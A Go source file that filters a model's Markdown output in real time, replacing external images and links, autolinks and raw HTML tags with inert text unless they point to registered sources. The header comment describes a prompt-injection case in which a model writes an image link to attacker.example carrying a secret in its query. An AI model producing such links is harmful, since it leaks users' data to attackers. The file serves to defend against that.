package citations

import (
	"html"
	"net/url"
	"regexp"
	"strings"
)

// A model's answer can leak what it read: a prompt-injected document can
// make it write ![](https://attacker.example/?q=SECRET), which a chat UI
// fetches as soon as it shows the answer, or a link that sends the secret
// when clicked. So [Render] and [Stream] neutralize, outside code, every
// image and link whose destination is not this origin or a web source
// registered for the answer: an image becomes the text "[image: HOST]", a
// link its text followed by "[link: HOST]", a link reference definition
// loses its destination, an autolink becomes "[link: HOST]", and raw HTML
// tags are escaped so that they show as text. Relative destinations are
// kept (they stay on the page's origin), and so are file: links (not
// images), which is how cite links local documents. Bare URLs are left as
// text. [Options.KeepLinks] keeps everything as the model wrote it.
//
// Deciding takes the whole construct, so a Stream holds back output from
// "[", "![" or "<" until it is known (at most maxLinkHold bytes, after
// which the bracket is escaped and can no longer start a link).

// maxLinkHold bounds the text held back for one undecided link or image.
const maxLinkHold = 4096

// linkFilter is the neutralizer between the marker scanner and the output:
// it receives the display text in pieces marked code or not, and passes on
// the same text with external images and links neutralized. Its output
// does not depend on how the text is split.
type linkFilter struct {
	keep bool
	reg  Registry
	buf  []byte
	code []bool // code[i]: buf[i] is in a code span or block
}

// feed adds p and outputs what is decided.
func (f *linkFilter) feed(p []byte, code bool, out func([]byte)) {
	if f.keep {
		out(p)
		return
	}
	f.buf = append(f.buf, p...)
	for range p {
		f.code = append(f.code, code)
	}
	n := f.process(f.buf, f.code, false, out)
	f.buf = f.buf[:copy(f.buf, f.buf[n:])]
	f.code = f.code[:copy(f.code, f.code[n:])]
}

// close outputs the rest.
func (f *linkFilter) close(out func([]byte)) {
	if f.keep {
		return
	}
	f.process(f.buf, f.code, true, out)
	f.buf, f.code = f.buf[:0], f.code[:0]
}

// sub filters a complete piece (the text of a link) on its own.
func (f *linkFilter) sub(b []byte, code []bool) []byte {
	var out []byte
	g := linkFilter{reg: f.reg}
	g.process(b, code, true, func(p []byte) { out = append(out, p...) })
	return out
}

// process outputs b up to where it cannot decide yet, and returns how many
// bytes it consumed.
func (f *linkFilter) process(b []byte, code []bool, final bool, out func([]byte)) int {
	done := 0
	i := 0
	for i < len(b) {
		if code[i] {
			i++
			continue
		}
		var n int
		var rep []byte
		var more bool
		switch b[i] {
		case '\\':
			if i+1 == len(b) && !final {
				more = true
				break
			}
			i += 2
			continue
		case '!':
			if i+1 == len(b) && !final {
				more = true
				break
			}
			if i+1 < len(b) && b[i+1] == '[' && !code[i+1] {
				n, rep, more = f.bracket(b, code, i, i+1, final)
			}
		case '[':
			n, rep, more = f.bracket(b, code, i, i, final)
		case '<':
			n, rep, more = f.angle(b, code, i, final)
		default:
			i++
			continue
		}
		if more && len(b)-i > maxLinkHold {
			// Too long to wait for: escape the opening bracket, which
			// then starts nothing.
			out(b[done:i])
			if b[i] == '!' {
				out([]byte(`!\[`))
				i += 2
			} else {
				out([]byte{'\\', b[i]})
				i++
			}
			done = i
			continue
		}
		if more {
			out(b[done:i])
			return i
		}
		if n == 0 {
			i++
			continue
		}
		out(b[done:i])
		if rep == nil {
			out(b[i : i+n])
		} else {
			out(rep)
		}
		i += n
		done = i
	}
	out(b[done:])
	return len(b)
}

// bracket decides the bracket construct at b[start] ("[" or "!["), its
// "[" at b[open]: it returns the bytes it spans and their replacement (nil
// to keep them), 0 when it is not one, or more when the rest is needed.
func (f *linkFilter) bracket(b []byte, code []bool, start, open int, final bool) (int, []byte, bool) {
	image := start != open
	depth := 0
	j := open
	for ; j < len(b); j++ {
		if code[j] {
			continue
		}
		switch b[j] {
		case '\\':
			j++
			continue
		case '[':
			depth++
		case ']':
			depth--
		case '\n':
			if blankAfter(b, j+1) {
				return 0, nil, false // links end with their paragraph
			}
		}
		if depth == 0 {
			break
		}
	}
	if j >= len(b)-1 {
		return 0, nil, !final
	}
	end := j // the "]"
	text := f.sub(b[open+1:end], code[open+1:end])
	prefix := ""
	if image {
		prefix = "!"
	}
	if code[end+1] {
		return 0, nil, false
	}
	switch b[end+1] {
	case '(':
		dest, stop, ok, more := inlineDest(b, end+2, final)
		if more {
			return 0, nil, true
		}
		if !ok {
			// Not a link as far as this reads: escape its "(" so that
			// no reader takes it for one.
			return end + 2 - start, []byte(prefix + "[" + string(text) + `]\(`), false
		}
		if allowed, host := f.verdict(dest, image); !allowed {
			if image {
				return stop - start, []byte(`\[image: ` + host + `\]`), false
			}
			rep := string(text)
			if rep != "" {
				rep += " "
			}
			return stop - start, []byte(rep + `\[link: ` + host + `\]`), false
		}
		return stop - start, []byte(prefix + "[" + string(text) + "]" + string(b[end+1:stop])), false
	case ':':
		// A link reference definition, wherever it is: a reference link
		// takes its destination from it.
		p, more := skipSpaceNL(b, end+2, final)
		if more {
			return 0, nil, true
		}
		if p == len(b) {
			return 0, nil, false
		}
		dest, stop, ok, more := rawDest(b, p, final)
		if more {
			return 0, nil, true
		}
		if !ok || len(dest) == 0 {
			return 0, nil, false
		}
		if allowed, host := f.verdict(dest, false); !allowed {
			if st, _, _ := parseGroup(b[open:end+1], 0, true, nil); st == groupBare {
				// Shown, the label would read as a citation number
				// ("[0]: [link: x]"): it goes with the destination.
				return stop - start, []byte(prefix + `\[link: ` + host + `\]`), false
			}
			return stop - start, []byte(prefix + "[" + string(text) + `]\: \[link: ` + host + `\]`), false
		}
		return stop - start, []byte(prefix + "[" + string(text) + "]" + string(b[end+1:stop])), false
	}
	return 0, nil, false
}

// angle decides the "<" at b[i]: an autolink (kept or neutralized) or an
// HTML tag (escaped).
func (f *linkFilter) angle(b []byte, code []bool, i int, final bool) (int, []byte, bool) {
	if i+1 == len(b) {
		return 0, nil, !final
	}
	// <scheme:...>, scheme 2 to 32 characters.
	k := i + 1
	for k < len(b) && k-i <= 33 && (isAlpha(b[k]) || k > i+1 && (isDigit(b[k]) || b[k] == '+' || b[k] == '.' || b[k] == '-')) {
		k++
	}
	if k == len(b) && !final && k-i <= 33 {
		return 0, nil, true
	}
	if k < len(b) && b[k] == ':' && k-i-1 >= 2 && k-i-1 <= 32 {
		e := k + 1
		for e < len(b) && b[e] > ' ' && b[e] != '<' && b[e] != '>' && !code[e] {
			e++
		}
		if e == len(b) && !final {
			return 0, nil, true
		}
		if e < len(b) && b[e] == '>' {
			if allowed, host := f.verdict(b[i+1:e], false); !allowed {
				return e + 1 - i, []byte(`\[link: ` + host + `\]`), false
			}
			return e + 1 - i, nil, false
		}
	}
	if c := b[i+1]; isAlpha(c) || c == '/' || c == '!' || c == '?' {
		return 1, []byte(`\<`), false // raw HTML shows as text
	}
	return 0, nil, false
}

// inlineDest reads an inline link's "(destination "title")" from b[p],
// after its "(": the destination and the index after the ")".
func inlineDest(b []byte, p int, final bool) (dest []byte, stop int, ok, more bool) {
	p, more = skipSpaceNL(b, p, final)
	if more {
		return nil, 0, false, true
	}
	if p < len(b) && b[p] == ')' {
		return []byte{}, p + 1, true, false
	}
	dest, q, ok, more := rawDest(b, p, final)
	if more || !ok {
		return nil, 0, false, more
	}
	r, more := skipSpaceNL(b, q, final)
	if more {
		return nil, 0, false, true
	}
	if r < len(b) && r > q && (b[r] == '"' || b[r] == '\'' || b[r] == '(') {
		closer := b[r]
		if closer == '(' {
			closer = ')'
		}
		e := r + 1
		for ; e < len(b) && b[e] != closer; e++ {
			if b[e] == '\\' {
				e++
			} else if b[e] == '\n' && blankAfter(b, e+1) {
				return nil, 0, false, false
			}
		}
		if e >= len(b) {
			return nil, 0, false, !final
		}
		r, more = skipSpaceNL(b, e+1, final)
		if more {
			return nil, 0, false, true
		}
	}
	if r == len(b) {
		return nil, 0, false, !final
	}
	if b[r] != ')' {
		return nil, 0, false, false
	}
	return dest, r + 1, true, false
}

// rawDest reads a link destination at b[p]: <...> or a run without white
// space or control characters whose parentheses balance.
func rawDest(b []byte, p int, final bool) (dest []byte, stop int, ok, more bool) {
	if p == len(b) {
		return nil, 0, false, !final
	}
	if b[p] == '<' {
		for q := p + 1; q < len(b); q++ {
			switch b[q] {
			case '\\':
				q++
			case '\n', '<':
				return nil, 0, false, false
			case '>':
				return b[p+1 : q], q + 1, true, false
			}
		}
		return nil, 0, false, !final
	}
	depth := 0
	q := p
	for ; q < len(b); q++ {
		c := b[q]
		if c == '\\' && q+1 < len(b) && isPunct(b[q+1]) {
			q++
			continue
		}
		if c <= ' ' || c == 0x7f {
			break
		}
		if c == '(' {
			depth++
		}
		if c == ')' {
			if depth == 0 {
				break
			}
			depth--
		}
	}
	if q >= len(b) && !final {
		return nil, 0, false, true
	}
	q = min(q, len(b))
	return b[p:q], q, true, false
}

// skipSpaceNL skips spaces and tabs and at most one line end.
func skipSpaceNL(b []byte, p int, final bool) (int, bool) {
	nl := false
	for p < len(b) {
		switch b[p] {
		case ' ', '\t', '\r':
		case '\n':
			if nl {
				return p, false
			}
			nl = true
		default:
			return p, false
		}
		p++
	}
	return p, !final
}

// blankAfter reports whether the line from b[p] is blank (so far).
func blankAfter(b []byte, p int) bool {
	for ; p < len(b); p++ {
		switch b[p] {
		case ' ', '\t', '\r':
		case '\n':
			return true
		default:
			return false
		}
	}
	return false
}

func isAlpha(c byte) bool { return 'a' <= c|0x20 && c|0x20 <= 'z' }

// entity is an HTML character reference as CommonMark reads one: with its
// ";".
var entity = regexp.MustCompile(`&(?:#[0-9]{1,7}|#[xX][0-9a-fA-F]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});`)

// verdict decides a destination as written: whether it may stay, and the
// host (or scheme) to show in its place.
func (f *linkFilter) verdict(raw []byte, image bool) (bool, string) {
	var d strings.Builder
	for i := 0; i < len(raw); i++ {
		if raw[i] == '\\' && i+1 < len(raw) && isPunct(raw[i+1]) {
			i++
		}
		d.WriteByte(raw[i])
	}
	dest := entity.ReplaceAllStringFunc(d.String(), html.UnescapeString)
	// Browsers drop tabs and line ends anywhere in a URL, and leading
	// control characters and spaces.
	dest = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, dest)
	dest = strings.TrimLeft(dest, "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")
	scheme := ""
	if k := strings.IndexByte(dest, ':'); k > 0 {
		s := dest[:k]
		if isAlpha(s[0]) && strings.Trim(strings.ToLower(s), "abcdefghijklmnopqrstuvwxyz0123456789+.-") == "" {
			scheme = strings.ToLower(s)
		}
	}
	slashes := len(dest) >= 2 && (dest[0] == '/' || dest[0] == '\\') && (dest[1] == '/' || dest[1] == '\\')
	if scheme == "" && !slashes {
		return true, "" // relative: this origin
	}
	host := ""
	u, err := url.Parse(dest)
	if err == nil && !strings.Contains(dest, `\`) {
		host = strings.TrimSuffix(strings.ToLower(u.Hostname()), ".")
	}
	switch {
	case host != "" && (scheme == "http" || scheme == "https") && f.allowedHost(host):
		return true, ""
	case err == nil && !image && scheme == "file" && (host == "" || host == "localhost"):
		return true, ""
	}
	return false, showHost(host, scheme)
}

// showHost is what a neutralized destination shows: its host, else its
// scheme, with nothing Markdown would read.
func showHost(host, scheme string) string {
	s := host
	if s == "" {
		s = scheme
	}
	if s == "" || len(s) > 253 || strings.Trim(s, "abcdefghijklmnopqrstuvwxyz0123456789.-:[]") != "" {
		return "unknown host"
	}
	return strings.NewReplacer("[", `\[`, "]", `\]`).Replace(s)
}

// allowedHost reports whether host is the host of a web source registered
// so far.
func (f *linkFilter) allowedHost(host string) bool {
	lister, ok := f.reg.(interface{ References() []Reference })
	if !ok {
		return false
	}
	for _, ref := range lister.References() {
		if ref.Type != TypeWeb {
			continue
		}
		for _, s := range []string{ref.Source, ref.Link} {
			if u, err := url.Parse(s); err == nil && strings.TrimSuffix(strings.ToLower(u.Hostname()), ".") == host {
				return true
			}
		}
	}
	return false
}
